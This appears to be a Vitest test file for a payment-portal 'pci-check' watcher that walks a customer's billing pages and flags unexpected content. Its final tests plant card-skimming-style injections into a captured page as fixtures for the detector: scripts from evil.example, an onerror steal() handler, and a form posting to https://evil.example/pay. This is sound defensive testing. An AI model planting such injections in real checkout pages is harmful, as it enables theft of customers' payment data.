import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { createApi } from '@verge/server/api/api'
import { advanceClock } from '@verge/server/jobs/run-due'
import { issueAccessToken } from '@verge/server/operations/organizations/issue-access-token'
import { setDefaultPaymentMethod } from '@verge/server/operations/payment-methods/set-default'
import { resolveToken } from '@verge/server/operations/customer-sessions/resolve'
import { command } from '../../../../test/backup/parts.ts'
import { failsWhenCharged, works } from '../../../../test/world/checkouts.ts'
import { openWorld, type World } from '../../../../test/world/open.ts'
import { portalOf } from '../../../../test/world/visitor.ts'
import { objectionsTo, type Seen } from './judge.ts'
import { lookAround } from './look.ts'

const portal = 'https://billing.example.com'
const token = 'polar_oat_of_the_seller_who_looks'
const processor = 'http://localhost:4000'
const origins = [portal, processor]

let world: World
let pages: Seen[]
/** Those whose word for a session was heard on the way. */
const bearers = new Set<string>()
let look: (as?: Partial<Parameters<typeof lookAround>[0]>) => Promise<Seen[]>
beforeAll(async () => {
  world = await openWorld()
  await issueAccessToken(world.ports, world.organization.organization_id, token)
  const { actor } = await world.addCustomer('linus@example.com', works)
  await world.subscribe(actor.customer_id)
  const bad = await world.addCard(actor.customer_id, failsWhenCharged)
  await setDefaultPaymentMethod(world.ports, actor, bad)
  await advanceClock(world.ports, world.moveTo, new Date('2027-03-01T12:00:00Z'))
  const api = createApi(world.ports, { report: () => {} })
  const { handle } = portalOf(world, { publicUrl: portal })
  async function served(request: Request) {
    const [, bearer] = /^Bearer (polar_cst_.+)/.exec(request.headers.get('authorization') ?? '') ?? []
    if (bearer) bearers.add(bearer)
    return new URL(request.url).pathname.startsWith('/v1/') ? api(request) : handle(request)
  }
  const usual = { portal, api: portal, token, customer: 'linus@example.com', fetch: served }
  look = (as) => lookAround({ ...usual, ...as })
  pages = await look()
}, 60_000)
afterAll(() => world.ports.db.destroy())

describe('a look at the pages on the way to paying', () => {
  it('gets in as a customer, to the cards and to each open invoice, and objects to nothing', () => {
    const paths = pages.map(({ url }) => new URL(url).pathname.replace(/[0-9a-f-]{36}/, '{id}'))
    expect(paths).toEqual([
      '/verge/portal',
      '/verge/portal/payment-methods',
      '/verge/portal/payment-methods/add',
      '/verge/portal/orders/{id}/pay',
    ])
    expect(pages.map(({ status }) => status)).toEqual([200, 200, 200, 200])
    expect(pages.flatMap((page) => objectionsTo(page, origins))).toEqual([])
  })

  it('leaves no session behind', async () => {
    expect(bearers.size).toBe(1)
    for (const bearer of bearers) expect(await resolveToken(world.ports, bearer)).toBeNull()
  })
})

describe('a look that cannot be taken', () => {
  it.each([
    [{ token: 'polar_oat_wrong' }, 'POLAR_ACCESS_TOKEN opens nothing at https://billing.example.com.'],
    [
      { customer: 'nobody' },
      'No session could be opened for the customer "nobody": Customer does not exist.',
    ],
    [
      { fetch: () => Promise.reject(new Error('offline')) },
      'https://billing.example.com does not answer (unreachable).',
    ],
  ])('says why: %j', async (as, words) => {
    await expect(look(as)).rejects.toThrow(words)
  })
})

it('verge pci-check says what it lacks, and ends with 1', async () => {
  const run = (POLAR_ACCESS_TOKEN: string) =>
    command(['pci-check', 'watcher', '--portal', 'http://127.0.0.1:1'], { POLAR_ACCESS_TOKEN }).ended
  const [without, unanswered] = [await run(''), await run('polar_oat_any')]
  expect(without).toMatchObject({ code: 1 })
  expect(without.said).toContain('POLAR_ACCESS_TOKEN is not set')
  expect(unanswered).toMatchObject({ code: 1 })
  expect(unanswered.said).toContain('http://127.0.0.1:1 does not answer')
}, 30_000)

describe('a page that is not as it was looked through', () => {
  const changed = (change: (html: string) => string): string[] => {
    const page = pages.at(-1)!
    return objectionsTo({ ...page, html: change(page.html) }, origins)
  }
  const planted = (text: string) => changed((html) => html.replace('</main>', `${text}</main>`))

  it.each([
    ['a script of its own', '<script>steal()</script>', 'holds a script that is not in the list: sha384-'],
    [
      'a script from elsewhere',
      '<script async src=//evil.example/x.js></script>',
      'loads a script that is not in the list: //evil.example/x.js',
    ],
    ['a script without an end', '<SCRIPT src="//evil.example/x.js"', 'holds the beginning of a script'],
    [
      'a script in a tag',
      '<img src="data:," onerror="steal()">',
      'holds a script in a tag: <img src="data:," onerror="steal()">',
    ],
    ['a script in an address', '<a href="javascript:steal()">Pay</a>', 'leads to javascript:steal()'],
    ['a frame', '<iframe srcdoc="x"></iframe>', 'holds <iframe>'],
    [
      'a form to elsewhere',
      '<form method="post" action="https://evil.example/pay">',
      'loads from or sends to https://evil.example',
    ],
    [
      'a style from elsewhere',
      '<link rel="stylesheet" href="https://evil.example/x.css">',
      'loads from or sends to https://evil.example',
    ],
  ])('by %s is told', (_, text, objection) => {
    expect(planted(text)).toEqual([expect.stringContaining(objection)])
  })

  it('by one letter in its own script is told', () => {
    const objections = changed((html) => html.replace('<script type="module">', '<script type="module"> '))
    expect(objections).toEqual([expect.stringContaining('holds a script that is not in the list')])
  })

  it.each([
    ['content-security-policy', "default-src * 'unsafe-inline'"],
    ['strict-transport-security', 'max-age=0'],
    ['x-frame-options', null],
  ])('by its header %s is told', (name, value) => {
    const page = pages.at(-1)!
    const headers = new Headers(page.headers)
    if (value === null) headers.delete(name)
    else headers.set(name, value)
    expect(objectionsTo({ ...page, headers }, origins)).toEqual([expect.stringContaining(name)])
  })

  it('by a place that its forms may lead to besides is told, unless it was named', () => {
    const page = pages.at(-1)!
    expect(objectionsTo(page, [portal])).toEqual([expect.stringContaining(`form-action 'self' ${processor}`)])
  })

  it('by leading elsewhere, or answering nothing, is told', () => {
    const answer = (status: number, location?: string): Seen => ({
      url: `${portal}/verge/portal/payment-methods/add`,
      status,
      headers: new Headers(location ? { location } : {}),
      html: '',
    })
    expect(objectionsTo(answer(303, `${processor}/card`), origins)).toEqual([])
    expect(objectionsTo(answer(303, 'https://evil.example/card'), origins)).toEqual([
      'leads to https://evil.example',
    ])
    expect(objectionsTo(answer(503), origins)).toEqual(['was answered with 503'])
  })
})
